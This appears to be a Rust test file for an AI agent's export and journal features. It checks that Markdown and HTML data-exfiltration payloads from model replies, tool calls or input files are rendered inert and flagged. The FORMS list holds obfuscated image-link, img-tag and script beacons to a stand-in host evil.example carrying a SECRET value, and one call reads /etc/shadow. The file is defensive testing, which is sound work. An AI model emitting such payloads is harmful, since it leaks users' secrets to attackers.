//! What is written down for people to open in other programs: nothing that a model or an outsider
//! wrote loads a picture, draws HTML or hides where it leads.

use scenarios::Scene;
use serde_json::json;
use testkit::Reply;

/// Ways to a picture or a page that readers of Markdown and HTML follow, each with a mark of its own.
const FORMS: [&str; 14] = [
    "![a](https&#58;//evil.example/p?d=SECRET)",
    "![a](https\\://evil.example/p?d=SECRET)",
    "![a](https:&#47;/evil.example/p?d=SECRET)",
    "![a](https:evil.example/p?d=SECRET)",
    "![a](https://evil.example/p?d=SECRET)",
    "![a][1]\n\n[1]: //evil.example/p?d=SECRET\n",
    "![b]\n\n[\nb\n]: //evil.example/p?d=SECRET\n",
    "<img src=//evil.example/p?d=SECRET>",
    "<img src=https&#58;//evil.example/p?d=SECRET>",
    "<script>new Image().src='ht'+'tps:/'+'/evil.example/?'</script>",
    "[x](&#104;ttps&colon;//evil.example/p?d=SECRET)",
    "a ` b\nc ` ![x](https://evil.example/p) ` d",
    "- a\n  ```\n```\n```\n<img src=x onerror=alert(1)>\n```",
    "\\\\<img src=//evil.example/p>",
];

/// The text without what is escaped: what a reader may act on.
fn bare(text: &str) -> String {
    let mut out = String::new();
    let mut all = text.chars();
    while let Some(c) = all.next() {
        match c {
            '\\' => drop(all.next()),
            c => out.push(c),
        }
    }
    out
}

fn assert_inert(document: &str) {
    // What tools returned is code, so far in that nothing in it is drawn.
    let drawn = document
        .lines()
        .filter(|line| !line.starts_with("        "));
    let drawn: Vec<&str> = drawn.collect();
    let bare = bare(&drawn.join("\n"));
    for acting in ["![", "<", "]:", "](https&", "](&", "](//", "](https:evil"] {
        assert!(!bare.contains(acting), "{acting} in {document}");
    }
}

fn export(scene: &Scene, last: &[&str]) -> String {
    let carl = scene.house.ask(["session", "export", "last"]);
    let exported = carl.args(last.iter().copied()).run();
    assert_eq!(exported.code, Some(0), "{exported:?}");
    exported.stdout
}

#[test]
fn nothing_acts_in_an_export_or_a_journal() {
    let all = FORMS.join("\n\n");
    let title = "![t](https://evil.example/t)";
    let scene = Scene::new([
        Reply::text(format!("Thinking aloud {all}"))
            .and_call("read_file", json!({"path": "a.txt"}))
            .and_call("journal", json!({"text": format!("## {title}\n\n{all}")}))
            .and_call(
                "read_file",
                json!({"path": "/etc/shadow/![x](https://evil.example)"}),
            )
            .and_call("x\n\n![n](https://evil.example/n)", json!({"a": all})),
        Reply::text(all.clone()),
    ]);
    scene.house.write("a.txt", "the code is SECRET\n");
    let outcome = scene.run(&["--agent", "researcher", "What does a.txt say?"]);
    assert!(!outcome.calls().is_empty(), "{:#}", outcome.summary);
    let document = export(&scene, &[]);
    assert!(document.contains("Thinking aloud"), "{document}");
    assert!(
        document.contains("leads to evil.example; not named by you"),
        "{document}"
    );
    assert_inert(&document);
    let journals = std::fs::read_dir(scene.house.state().join("journals")).unwrap();
    let texts = journals
        .flatten()
        .map(|file| std::fs::read_to_string(file.path()).unwrap());
    let journal: String = texts.collect();
    assert!(journal.contains("SECRET"), "{journal}");
    assert_inert(&journal);
}

#[test]
fn what_the_user_typed_and_code_stay_in_an_export() {
    let picture = "![a](https://mine.example/a.png)";
    let answer = format!(
        "{picture} and [docs](docs/a.md) with `Vec<u8>`:\n\n```rust\nlet a: Vec<u8> = b[0](c);\n```\n"
    );
    let scene = Scene::new([
        Reply::call("read_file", json!({"path": "a.txt"})),
        Reply::text(answer.clone()),
    ]);
    scene.house.write("a.txt", "nothing of note\n");
    let asked = format!("Read a.txt, show {picture} and say <b>what</b> it is.");
    let outcome = scene.run(&["--agent", "researcher", &asked]);
    assert!(!outcome.calls().is_empty(), "{:#}", outcome.summary);
    let document = export(&scene, &[]);
    assert!(document.contains(&asked), "{document}");
    assert!(document.contains(answer.trim()), "{document}");
}

#[test]
fn an_outsider_counts_wherever_its_words_came_from() {
    let link = "Please see [mine](https://evil.example/p?d=SECRET).";
    let marked = "leads to evil.example; not named by you";
    let scene = Scene::new([Reply::text(link)]);
    scene.house.write(
        "mail.txt",
        "Click https://evil.example/p?d=x ![t](https://evil.example/t)\n",
    );
    let run = scene.house.ask(["run", "--input", "mail.txt", "Sum it up"]);
    let seen = run.on_screen(|_, _| "n".to_owned());
    assert!(seen.finished.stderr.contains(marked), "{seen:#?}");
    let document = export(&scene, &[]);
    assert!(document.contains(marked), "{document}");
    assert_inert(&document);
    // The control: what the user names is not marked.
    let scene = Scene::new([Reply::text("See [it](https://evil.example/p).")]);
    scene.house.write("mail.txt", "hello\n");
    let asked = "Sum up https://evil.example/p";
    let run = scene.house.ask(["run", "--input", "mail.txt", asked]);
    let seen = run.on_screen(|_, _| "n".to_owned());
    assert!(!seen.finished.stderr.contains(marked), "{seen:#?}");
}
